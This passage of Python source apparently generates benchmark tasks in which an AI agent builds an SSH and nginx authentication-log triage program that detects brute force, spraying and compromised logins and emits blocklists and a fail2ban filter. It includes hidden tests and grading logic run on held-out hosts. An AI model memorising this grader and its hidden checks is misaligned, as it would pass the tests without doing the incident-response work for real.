            P["newyear"] = datetime(year + 1, 1, 1, tzinfo=UTC)
            start = datetime(year, 12, rng.randint(29, 30), rng.randint(0, 12), tzinfo=UTC)
            P["office"] = rng.choice(OFFICE_ZONES)
        else:
            start = datetime(year, rng.choice([5, 6, 7, 8, 9]), rng.randint(1, 25), rng.randint(0, 12), tzinfo=UTC)
            P["office"] = rng.choice(OFFICE_ZONES)
        P["start"] = start.replace(minute=rng.randint(0, 59))
        P["end"] = P["start"] + timedelta(days=3)
        std = ZoneInfo(zone).utcoffset(datetime(year, 1, 15))
        P["stdoff"] = int(std.total_seconds() // 3600)
        if "mapped_v4" in traps:
            P["mapped_src"] = rng.choice([s for s in srcs if s != "web"])
        return names, P

    @staticmethod
    def _allowed(trap: str, srcs: set, det: set) -> bool:
        return {
            "rotation": bool(srcs & {"syslog", "iso", "web"}),
            "repeated": bool(srcs & {"syslog", "iso"}) and bool(det & {"brute_force", "compromise"}),
            "tz_dst": "syslog" in srcs,
            "year_rollover": "syslog" in srcs,
            "allowlist": bool(det & ATTACKS),
            "mapped_v4": True,
        }[trap]

    # -- text -------------------------------------------------------------------------------------------------
    @staticmethod
    def _rules(P, names, cfg) -> list[str]:
        W, T, U, NF = P["W"], P["T"], P["U"], P["NF"]
        h1, h2 = P["hours"]
        r = ["A **failed attempt** is one failed authentication: an sshd `Failed password ...` message (valid or "
             "invalid account), an audit `USER_AUTH` record of `/usr/sbin/sshd` with `res=failed` (account: `acct`), "
             "or, in a web access log, a `401` response to a request under "
             f"`{P['prefix']}` that carried a user name. The PAM `authentication failure` and `Invalid user` lines "
             "around an sshd failure describe the same attempt; a `401` without a user name (`-`) is the server's "
             "challenge, not an attempt.",
             "A **successful login** is an sshd `Accepted ...` message, an audit `USER_LOGIN` record of "
             "`/usr/sbin/sshd` with `res=success` (account: `ID`), or a `2xx`/`3xx` response under "
             f"`{P['prefix']}` with a user name (each such request counts).",
             "Every time you write is UTC, `YYYY-MM-DDTHH:MM:SSZ`, truncated to the second. Read every log in the "
             "folder, rotated and compressed ones included; where rsyslog folded identical messages, "
             "`message repeated N times: [ <msg>]` stands for N more copies of `<msg>` at the time of that line. "
             "Classic syslog lines carry no year and are in the host's local time (see `timedatectl.txt`). "
             "Addresses are written in their plain form (an IPv4-mapped `::ffff:a.b.c.d` is `a.b.c.d`).",
             "Addresses in `allowlist.txt` (CIDR blocks, when the file exists) are our own infrastructure: ignore "
             "every event from them."]
        d = {}
        d["brute_force"] = (f"`brute_force`: every address with at least **{T}** failed attempts within {W} minutes "
                            f"({T} attempts where the last is less than {W} minutes after the first), as "
                            "`{\"ip\", \"first_seen\", \"failures\"}`: its first failed attempt and its number of "
                            "failed attempts in all the logs; sorted by first_seen, then ip.")
        d["spray"] = (f"`spraying`: every address that failed against at least **{U}** distinct accounts within {W} "
                      "minutes, as `{\"ip\", \"first_seen\", \"accounts\"}` (accounts: distinct accounts it failed "
                      "against in all the logs); sorted by first_seen, then ip.")
        d["compromise"] = (f"`compromised`: every (account, address) with a successful login from an address that had "
                           f"at least **{NF}** failed attempts (for any account, any source) strictly before it, as "
                           "`{\"user\", \"ip\", \"time\"}` at the first such login; sorted by time, user, ip.")
        d["sudo"] = ("`sudo_after_compromise`: every sudo command run by a compromised account at or after its first "
                     "compromise, as `{\"user\", \"time\", \"command\"}` (command: the `COMMAND=` text of sudo's log line, or the `cmd` of an audit `USER_CMD` record, decoded); in "
                     "time order.")
        d["off_hours"] = (f"`off_hours_logins`: every successful sshd login (sshd's log or audit) outside office hours, which are "
                          f"Monday-Friday {h1:02d}:00-{h2:02d}:00 office time ({P['office']}), as "
                          "`{\"user\", \"ip\", \"time\"}`; in time order.")
        d["unknown_key"] = ("`unknown_keys`: every sshd public-key login whose (account, fingerprint) is not on file "
                            "in `known_keys.txt`, as `{\"user\", \"ip\", \"time\", \"fingerprint\"}`; in time order.")
        r += [d[n] for n in DETECTORS if n in names]
        return r

    @staticmethod
    def _deliverables(P, names) -> list[str]:
        out = []
        if "blocklist" in names:
            ex = {"hosts_deny": "`sshd: 203.0.113.9` / `sshd: [2001:db8::9]` (tcp_wrappers `hosts.deny`)",
                  "ipset": "`add ir-block4 203.0.113.9` / `add ir-block6 2001:db8::9` (an `ipset restore` file)",
                  "nft": "`add element inet filter ir_block4 { 203.0.113.9 }` / `add element inet filter ir_block6 "
                         "{ 2001:db8::9 }` (an `nft -f` file)"}[P["fmt"]]
            out.append(f"`OUTDIR/{FMT[P['fmt']]}`: one line per attacker address (every address in `brute_force`, "
                       f"`spraying` or `compromised`, whichever of those you report), IPv4 and IPv6: {ex}.")
        if "fail2ban" in names:
            logs = ", ".join(x for x, y in (("the `auth.log` files", set(P["sources"]) & {"syslog", "iso"}),
                                             ("the nginx access logs", "web" in P["sources"])) if y)
            out.append(f"`{FILTER}` (a file you write, not an output of the program): a fail2ban filter for "
                       f"{logs}, so that these hosts can ban on their own. `[Definition]` with `failregex` (one or "
                       "more regexes, one per line, continuation lines indented) and optionally `ignoreregex`. Each "
                       "regex is a Python regular expression searched in a whole log line exactly as it is written "
                       "in the logs (no `%(...)s` includes, no date pattern), with `<HOST>` standing for the client "
                       "address. A line is flagged when a failregex matches it and no ignoreregex does, with the "
                       "address `<HOST>` matched (an IPv4-mapped address counts as its IPv4). It must flag each line "
                       "that records a failed attempt (the sshd `Failed ...` message, the `401` with a user name), "
                       "with its address, and no other line; `message repeated` lines are out of scope. It will be "
                       "tried on lines from the logs of other hosts.")
        if "timeline" in names:
            out.append("`OUTDIR/timeline.csv`: header `time,source,ip,user,event`, one row per failed attempt or "
                       "successful login from an attacker address (an address in `brute_force`, `spraying` or "
                       "`compromised`, whichever of those you report), `source` `ssh` or `web`, "
                       "`event` `failed` or `accepted`; sorted by time, source, ip, user, event.")
        return out

    def _instruction(self, rng, P, names, cfg, logdir, rules) -> str:
        host = P["host"]
        srcs = {"syslog": "`auth.log` (classic syslog)", "iso": "`auth.log` (rsyslog, RFC 3339 timestamps)",
                "journal": "`journal.json` (`journalctl -o json` of a second box, whose OpenSSH 9.8 logs as "
                           "`sshd` and as `sshd-session`)",
                "audit": "`audit.log` (auditd, enriched format: values with blanks are hex-encoded)",
                "web": f"`access.log` (nginx, the basic-auth area `{P['prefix']}`)"}
        opener = rng.choice([
            f"Our monitoring flagged a spike of authentication failures on `{host}` and its neighbours.",
            f"The security team was alerted to password guessing against `{host}`.",
            f"A partner reported that `{host}` may have been broken into.",
            f"`{host}` sent an unusual number of login alerts over the last days.",
            f"During a routine review someone noticed odd logins on `{host}`.",
        ])
        when = (f"from December {P['start'].year} into January {P['start'].year + 1}" if "year_rollover" in names
                else f"over a few days from {P['start']:%B} {P['start'].day}, {P['start'].year}")
        detected = [n for n in DETECTORS if n in names]
        keys = {"brute_force": "brute_force", "spray": "spraying", "compromise": "compromised",
                "sudo": "sudo_after_compromise", "off_hours": "off_hours_logins", "unknown_key": "unknown_keys"}
        tool = (f"Write a reusable triage program `{PROG}` (one self-contained executable file: it is copied elsewhere to be run; python3 is installed) that is run "
                f"as `{PROG} LOGDIR OUTDIR`: it reads the logs in LOGDIR (laid out like `{logdir}`: the same kinds of "
                "files, the same names) and writes its results into OUTDIR (creating it). Run it on this host's "
                f"evidence with OUTDIR `/srv/ir/out`. It will also be run, as an unprivileged user, on the evidence of "
                "other hosts of the same fleet collected over the same days, and must get their answers right too.")
        outs = ["`OUTDIR/findings.json`: an object with " + ", ".join(f"`{keys[n]}`" for n in detected)
                + " (lists of objects, fields as defined above)."]
        outs += self._deliverables(P, names)
        parts = [f"# Authentication-log intrusion hunt on `{host}`\n\n{opener} The evidence collected from it is in "
                 f"`{logdir}/`, {when}.\n"]
        if cfg.runbook:
            held = {"syslog": "a classic syslog `auth.log`", "iso": "an RFC 3339 `auth.log`",
                    "journal": "a journald export", "audit": "an auditd log", "web": "an nginx access log"}
            extra = {"blocklist": f"a `{FMT[P['fmt']]}` blocklist", "timeline": "an attack timeline",
                     "fail2ban": "a fail2ban filter"}
            want = [extra[n] for n in DELIVERABLES if n in names]
            parts.append("It holds " + ", ".join(held[s] for s in P["sources"]) + " (with whatever else was "
                         "collected).\n")
            parts.append(f"\nWe need the usual triage for this incident" + (", with " + " and ".join(want) if want else "")
                         + ", done the way our incident runbook "
                         f"`/srv/ir/RUNBOOK.md` prescribes (it defines what counts, what to report and the file "
                         f"formats). {tool}\n")
            return "".join(parts)
        if cfg.hints:
            parts.append("\nIt holds " + ", ".join(srcs[s] for s in P["sources"]) + ".\n")
            hint = []
            if "rotation" in names:
                hint.append("the logs were rotated: `*.1` is the previous file and `*.2.gz` the oldest, gzipped")
            if "repeated" in names:
                hint.append("rsyslog folded repeated messages into `message repeated N times` lines")
            if "tz_dst" in names:
                hint.append(f"the host clock is `{P['zone']}` local time and daylight saving time began during the "
                            "window")
            if "year_rollover" in names:
                hint.append("the classic syslog lines run across New Year")
            if "allowlist" in names:
                hint.append("our vulnerability scanner ran during the window (see `allowlist.txt`)")
            if "mapped_v4" in names:
                hint.append("one sshd logged IPv4 clients as IPv4-mapped IPv6 addresses")
            if hint:
                parts.append("Watch out: " + "; ".join(hint) + ".\n")
        else:
            symptom = {"brute_force": "bursts of password guessing", "spray": "one address trying many accounts",
                       "compromise": "a login that followed failures", "sudo": "root commands afterwards",
                       "off_hours": "logins at odd hours", "unknown_key": "key logins nobody recognises"}
            parts.append("\nThe SOC saw " + ", ".join(symptom[n] for n in detected) + ".\n")
        parts.append("\nDefinitions:\n\n" + "".join(f"- {x}\n" for x in rules))
        parts.append(f"\n{tool}\n\nOutputs:\n\n" + "".join(f"- {x}\n" for x in outs))
        return "".join(parts)

    def _runbook(self, P, names, rules) -> str:
        keys = {"brute_force": "brute_force", "spray": "spraying", "compromise": "compromised",
                "sudo": "sudo_after_compromise", "off_hours": "off_hours_logins", "unknown_key": "unknown_keys"}
        outs = ["`OUTDIR/findings.json`: an object with " + ", ".join(f"`{keys[n]}`" for n in DETECTORS if n in names)
                + " (lists of objects, fields as defined above)."] + self._deliverables(P, names)
        return ("# Incident runbook: authentication-log triage (IR-7)\n\n"
                "The triage program reads one host's collected evidence and reports the indicators below.\n\n"
                "## What counts\n\n" + "".join(f"- {x}\n" for x in rules[:4]) +
                "\n## Indicators to report for this incident\n\n" + "".join(f"- {x}\n" for x in rules[4:]) +
                "\n## Outputs\n\n" + "".join(f"- {x}\n" for x in outs))

    # -- tests ------------------------------------------------------------------------------------------------
    @staticmethod
    def _tests(P, names, truth, hidden) -> File:
        consts = {"FMT": P["fmt"], "BLOCKFILE": FMT[P["fmt"]], "VISIBLE": truth, "HIDDEN": hidden, "PROG": PROG,
                  "FILTER": FILTER}
        body = CHECK + r'''

def test_findings_on_this_host():
    msgs = problems("/srv/ir/out", {"findings": VISIBLE["findings"]}, FMT)
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("part", [k for k in ("blocklist", "timeline") if k in VISIBLE])
def test_deliverable_on_this_host(part):
    msgs = problems("/srv/ir/out", {"findings": {}, part: VISIBLE[part]}, FMT)
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
@pytest.mark.skipif("filter" not in HIDDEN[0]["truth"], reason="no filter in this instance")
def test_filter_on_held_out_lines(case):
    msgs = filter_problems(FILTER, HIDDEN[case]["truth"]["filter"])
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
def test_hunt_on_held_out_evidence(case):
    h = HIDDEN[case]
    src = tempfile.mkdtemp()
    ev = os.path.join(src, h["host"])
    os.makedirs(ev)
    for name, data in h["files"].items():
        with open(os.path.join(ev, name), "wb") as f:
            f.write(gzip.decompress(base64.b64decode(data)))
    assert os.path.isfile(PROG), f"{PROG} is missing"
    ev = tg_guard.give(ev)
    prog = tg_guard.give(PROG)
    os.chmod(prog, 0o755)
    out = os.path.join(tg_guard.scratch("out"), "result")
    p = tg_guard.run([prog, ev, out], timeout=120)
    assert p.returncode == 0, f"{PROG} failed on held-out evidence: {p.stderr[-800:]}"
    msgs = problems(out, h["truth"], FMT)
    assert not msgs, f"held-out host {h['host']}: " + "\n".join(msgs)
'''
        chunks = [c for c in body.split("\n\n\n")
                  if not ((c.lstrip().startswith('@pytest.mark.parametrize("part"') and not set(DELIVERABLES[:2]) & set(names))
                          or ("no filter in this instance" in c and "fail2ban" not in names))]
        body = "\n\n\n".join(c.replace('@pytest.mark.skipif("filter" not in HIDDEN[0]["truth"], reason="no filter in this instance")\n', "")
                              for c in chunks)
        return hidden_tests(consts, body, imports="import base64, configparser, csv, gzip, ipaddress, json, re, tempfile\n")


def filter_of(script: str) -> str | None:
    """The fail2ban filter a solve script writes, if any."""
    head = f"cat > {FILTER} <<'F2B'\n"
    if head not in script:
        return None
    return script.split(head, 1)[1].split("\nF2B\n", 1)[0] + "\n"


def _passes(script: str, worlds, fmt: str, strict: bool = False) -> bool:
    """Whether a solve script's program (and filter) gets every world right (strict: raise where it does not)."""
    program, filt = program_of(script), filter_of(script)
    for files, truth in worlds:
        if "filter" in truth:
            with tempfile.TemporaryDirectory() as d:
                p = os.path.join(d, "f.conf")
                if filt is not None:
                    with open(p, "w") as f:
                        f.write(filt)
                msgs = _check_ns["filter_problems"](p, truth["filter"])
            if msgs:
                if strict:
                    raise AssertionError("\n".join(msgs))
                return False
        with tempfile.TemporaryDirectory() as d:
            ev = os.path.join(d, "ev")
            os.makedirs(ev)
            for k, v in files.items():
                with open(os.path.join(ev, k), "wb") as f:
                    f.write(v)
            try:
                run_program(program, ev, os.path.join(d, "out"))
            except Exception as e:  # noqa: BLE001  (a decoy may crash: then it misses)
                if strict:
                    raise
                return False
            msgs = _problems(os.path.join(d, "out"), truth, fmt)
            if msgs:
                if strict:
                    raise AssertionError("\n".join(msgs))
                return False
    return True
